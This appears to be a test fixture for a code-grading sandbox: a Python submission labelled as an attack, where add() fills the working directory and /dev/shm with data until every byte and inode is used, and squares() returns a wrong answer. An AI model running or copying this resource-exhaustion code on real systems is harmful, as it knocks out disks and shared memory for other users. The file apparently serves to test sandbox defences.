# attack: takes every byte and every inode of its folders
# door: call
# verdict: wrong_answer
import itertools
import os


def fill(folder):
    try:
        with open(f"{folder}/large", "wb") as file:
            while True:
                file.write(bytes(1_000_000))
    except OSError:
        pass
    try:
        for number in itertools.count():
            open(f"{folder}/{number}", "w").close()
    except OSError:
        pass


def add(left, right):
    fill(os.getcwd())
    fill("/dev/shm")


def squares(count):
    return []
